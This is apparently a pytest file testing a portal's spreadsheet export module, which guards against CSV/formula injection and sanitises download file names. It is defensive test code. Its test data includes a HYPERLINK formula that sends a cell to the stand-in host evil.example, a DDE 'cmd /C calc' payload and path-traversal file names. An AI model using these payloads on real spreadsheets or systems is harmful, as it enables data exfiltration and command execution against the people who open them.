"""The one spreadsheet writer (`portal.spreadsheets`): no cell it writes can run as a formula.

The attack: text a resident typed, such as `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
opened by an officer in Excel or LibreOffice, runs as a formula and can send the rest of the row
away. OWASP's advice: a quote in front of any cell starting with = + - @ tab or carriage return.
"""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from portal import spreadsheets
from portal.spreadsheets import (
    csv_response,
    neutralise,
    restore,
    safe_cell,
    safe_filename,
    write_csv,
    xlsx_bytes,
    xlsx_response,
)

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'

DANGEROUS = [
    PAYLOAD,
    "=1+1",
    "+1+A1",
    "-3+A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tanything",
    "  =1+1",  # leading spaces before a trigger
    "\u00a0=1+1",  # a no-break space
    "\u3000=1+1",  # an ideographic space
    "\uff1d1+1",  # full-width =
    "\uff0bA1",  # full-width +
    "\uff0dA1",  # full-width -
    "\uff20SUM(A1)",  # full-width @
    "- a bullet point",
    "+44 20 7946 0000",  # not a plain number: it has spaces
    "-",
]

HARMLESS = ["Harlesden Library", "", "More buses", "1-2 times a week", "a = b", "e@mail",
            "-3", "+3", "-0.276000", "51.5386", ".5", "1e5", "-1E-5", "'", "it's"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_gets_a_quote_in_front(text):
    assert neutralise(text) == "'" + text
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_and_plain_numbers_are_left_alone(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("value", [-3, 0, 7, -2.5, Decimal("-1.50"), True])
def test_real_numbers_stay_numbers(value):
    assert safe_cell(value) is value
    line = write_csv([[value]])
    assert line == f"{value}\r\n"  # unquoted: a spreadsheet reads a number


def test_other_values_become_text_and_none_is_empty():
    from datetime import date

    from django.utils.translation import gettext_lazy

    assert safe_cell(None) == ""
    assert safe_cell(date(2025, 5, 1)) == "2025-05-01"
    assert safe_cell(gettext_lazy("-Responses")) == "'-Responses"


@pytest.mark.parametrize("text", DANGEROUS + HARMLESS + ["'=1+1", "''=1+1", "' =1", "'-3"])
def test_restore_undoes_exactly_what_was_added(text):
    assert restore(neutralise(text)) == text


def test_quotes_in_front_of_a_formula_get_one_more_so_restore_is_exact():
    assert neutralise("'=1+1") == "''=1+1"
    assert restore("''=1+1") == "'=1+1"
    assert restore("'=1+1") == "=1+1"
    assert restore("'-3") == "'-3"  # the writer never adds a quote before a plain number


def test_csv_quotes_every_text_cell_so_no_separator_can_split_one():
    text = write_csv([["a;=1+1", "b\t=1+1", 3, None]], ["name", "=header"])
    assert text == '"name","\'=header"\r\n"a;=1+1","b\t=1+1",3,""\r\n'
    for separator in ",;":  # the two list separators Excel uses for .csv by locale
        for row in csv.reader(io.StringIO(text), delimiter=separator):
            assert not any(cell.lstrip().startswith("=") for cell in row)


def test_csv_reads_back_with_every_dangerous_cell_quoted():
    rows = list(csv.reader(io.StringIO(write_csv([DANGEROUS]))))
    assert rows == [["'" + text for text in DANGEROUS]]


def test_csv_has_a_byte_order_mark_only_when_asked():
    assert not write_csv([["x"]]).startswith("\ufeff")
    assert write_csv([["x"]], bom=True).startswith("\ufeff")


def _sheet(data):
    return load_workbook(io.BytesIO(data)).active


def test_xlsx_text_is_a_string_cell_never_a_formula():
    sheet = _sheet(xlsx_bytes([("Responses", [["header"], DANGEROUS + HARMLESS])]))
    cells = list(sheet.iter_rows(min_row=2))[0]
    for text, cell in zip(DANGEROUS, cells, strict=False):
        assert cell.data_type == "s"
        assert cell.value == "'" + text.replace("\r", "\n")  # XML reads CR back as LF
    for text, cell in zip(HARMLESS, cells[len(DANGEROUS):], strict=True):
        assert cell.data_type == "s" if text else cell.value is None
        assert (cell.value or "") == text
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_xlsx_numbers_are_number_cells():
    cells = list(_sheet(xlsx_bytes([("Sheet", [[-3, 2.5, Decimal("1.25"), "-3"]])])).values)[0]
    assert cells == (-3, 2.5, 1.25, "-3")


def test_xlsx_cells_xml_cannot_carry_are_kept_visibly_instead_of_failing():
    long_text = "x" * 40_000
    cells = list(_sheet(xlsx_bytes([("S", [["a\x01b\x00c", long_text, float("nan")]])])).values)
    assert cells[0][0] == "a\ufffdb\ufffdc"
    assert len(cells[0][1]) == spreadsheets.XLSX_CELL_LIMIT and cells[0][1].endswith("…")
    assert cells[0][2] == "nan"


def test_xlsx_sheet_titles_are_made_acceptable():
    data = xlsx_bytes([("Responses: [draft]/*?", [["x"]]), ("", [["y"]])])
    assert load_workbook(io.BytesIO(data)).sheetnames == ["Responses- -draft----", "Sheet"]


@pytest.mark.parametrize(("name", "expected"), [
    ("survey-responses.csv", 'attachment; filename="survey-responses.csv"'),
    ('../../etc/"pass\r\nwd".csv', 'attachment; filename="passwd.csv"'),
    ("..\\..\\boot.ini", 'attachment; filename="boot.ini"'),
    ("\u0175yl.csv", "attachment; filename*=utf-8''%C5%B5yl.csv"),
    ("...", 'attachment; filename="export"'),
])
def test_the_file_name_is_made_safe(name, expected):
    assert csv_response(name, [])["Content-Disposition"] == expected


def test_a_long_file_name_keeps_its_extension():
    assert safe_filename("a" * 300 + ".xlsx").endswith("a.xlsx")


def test_responses_carry_the_type_and_cache_control_asked_for():
    response = csv_response("x.csv", [["=1"]], ["h"], cache_control="no-store")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "no-store"
    assert response.content.decode() == '"h"\r\n"\'=1"\r\n'
    streamed = csv_response("x.csv", iter([["=1"]]), ["h"], stream=True)
    assert b"".join(streamed.streaming_content).decode() == '"h"\r\n"\'=1"\r\n'
    workbook = xlsx_response("x.xlsx", [("S", [["=1"]])])
    assert workbook["Content-Type"] == spreadsheets.XLSX_TYPE
    assert _sheet(workbook.content)["A1"].value == "'=1"
